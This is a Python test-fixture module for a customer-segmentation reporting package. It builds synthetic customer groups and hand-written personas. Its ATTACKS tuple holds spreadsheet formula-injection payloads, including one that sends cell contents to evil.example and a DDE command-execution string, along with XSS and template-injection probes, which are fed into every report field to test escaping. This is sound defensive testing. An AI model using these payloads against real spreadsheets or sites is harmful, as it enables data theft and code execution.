"""Small reports for the tests: customers in planted groups, personas written by hand, and texts that attack."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from functools import cache

import numpy as np
import pandas as pd

from segmentation.clustering.model import Segmentation
from segmentation.core.disclosure import SMALLEST_GROUP
from segmentation.core.settings import PREP_PRESETS, KSettings
from segmentation.core.tables import FeatureInfo, FeatureTable
from segmentation.evaluation.choose_k import KComparison, search
from segmentation.evaluation.final import fit
from segmentation.personas import Claim, Persona
from segmentation.reports import Facts, ReportSettings, collect

__all__ = [
    "ATTACKS",
    "DAY",
    "LONG",
    "customers",
    "facts_of",
    "hostile_facts",
    "personas_of",
    "planted",
    "planted_comparison",
]

DAY = date(2026, 3, 5)
LONG = "Customers who buy in instalments and pay the balance back slowly"
ATTACKS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "<img src=x onerror=alert(1)>",
    "\"><script>alert('x')</script>",
    "http://evil.example/leak",
    "-2+3+cmd",
    "{{7*7}} ${7*7} ![](http://evil.example/p.png)",
)  # fmt: skip


def customers(sizes: Sequence[int], features: int = 6, *, seed: int = 1) -> FeatureTable:
    """Customers in groups of these sizes that lie far apart; a few values are missing."""
    rng = np.random.default_rng(seed)
    group = np.repeat(np.arange(len(sizes)), sizes)
    middle = rng.permutation(np.arange(len(sizes)) * 40.0 + 20.0)
    frame = pd.DataFrame({"spend": middle[group] + rng.normal(0, 2, len(group))})
    for number in range(1, features):
        frame[f"f{number}"] = (rng.normal(0, 30, len(sizes))[group] + rng.normal(0, 2, len(group))).round(2)
    frame.loc[::17, "f1"] = np.nan
    frame.index = pd.Index([f"00{row + 1}" for row in range(len(frame))], name="customer")
    info = [FeatureInfo("spend", "Spend", "€", "money", about="What they spent in a year.")]
    info += [FeatureInfo(f"f{number}", f"Feature {number}") for number in range(1, features)]
    branch = pd.Series(np.where(group == 0, "North", "South"), index=frame.index)
    return FeatureTable(frame, tuple(info), pd.DataFrame({"branch": branch}), fingerprint="ab12")


@cache
def planted(sizes: tuple[int, ...] = (60, 45, 30), features: int = 6) -> tuple[FeatureTable, Segmentation]:
    """`customers` and the segmentation that finds the groups again."""
    table = customers(sizes, features)
    return table, fit(table, PREP_PRESETS["plain"], len(sizes), n_init=5)


@cache
def planted_comparison(sizes: tuple[int, ...] = (60, 45, 30), features: int = 6) -> KComparison:
    """The comparison of 2 to 5 segments for `planted`."""
    table, seg = planted(sizes, features)
    return search(seg.recipe.transform(table.frame), KSettings(k_max=5, n_init=2))


def personas_of(seg: Segmentation, names: Sequence[str] = ()) -> tuple[Persona, ...]:
    """One persona a segment with a claim, a counter-claim and an idea, all written by hand."""
    first = seg.info[0]
    claim = Claim(
        f"They have more {first.label.lower()} than others.", first.name, first.label, first.unit, first.kind, "mean",
        100.0, 60.0, 1.25, "more than 60", 0.81, 0.62,
    )  # fmt: skip
    made = []
    for number in seg.segments:
        name = names[number - 1] if names else f"Persona {number}"
        said = (claim.sentence, "They come often.")
        size, share = seg.sizes[number - 1], seg.shares[number - 1]
        against = ("One in five does not.",)
        made.append(
            Persona(
                number,
                name,
                name,
                said,
                size,
                share,
                (claim,),
                against,
                ("Upsell: test an offer.",),
                stability=0.9,
                smallest=SMALLEST_GROUP,
            )
        )
    return tuple(made)


@cache
def facts_of(
    sizes: tuple[int, ...] = (60, 45, 30),
    features: int = 6,
    *,
    names: tuple[str, ...] = (),
    comparison: bool = True,
    **settings: object,
) -> Facts:
    """The facts of `planted`, with the comparison unless it is not wanted."""
    table, seg = planted(sizes, features)
    return collect(
        seg,
        personas_of(seg, names),
        features=table,
        comparison=planted_comparison(sizes, features) if comparison else None,
        settings=ReportSettings(**settings),  # type: ignore[arg-type]
        files={"customers.csv": "0f" * 32},
        made_on=DAY,
    )


def hostile_facts(attack: str) -> Facts:
    """Facts in which every text that comes from data or from a user is the attack."""
    table = customers((20, 15), 3)
    columns = [f"{attack}{number}" for number in range(3)]
    info = tuple(
        FeatureInfo(name, f"{attack} {number}", unit=attack, about=attack) for number, name in enumerate(columns)
    )
    frame = table.frame.set_axis(columns, axis=1).set_axis([f"{attack}#{row}" for row in range(35)], axis=0)
    frame.index.name = attack
    descriptors = pd.DataFrame({f"{attack}!": [attack] * 35}, index=frame.index)
    features = FeatureTable(frame, info, descriptors, as_of="2026-01-01", fingerprint=attack)
    seg = fit(features, PREP_PRESETS["plain"], 2, n_init=2)
    texts = (attack, attack)
    personas = tuple(
        replace(item, name=attack, sentences=texts, against=texts, actions=texts, because=attack,
                claims=tuple(replace(claim, sentence=attack, label=attack, unit=attack, fits=attack)
                             for claim in item.claims))
        for item in personas_of(seg)
    )  # fmt: skip
    settings = ReportSettings(title=attack, customers=True)
    return collect(seg, personas, features=features, settings=settings, files={attack: attack}, made_on=DAY)
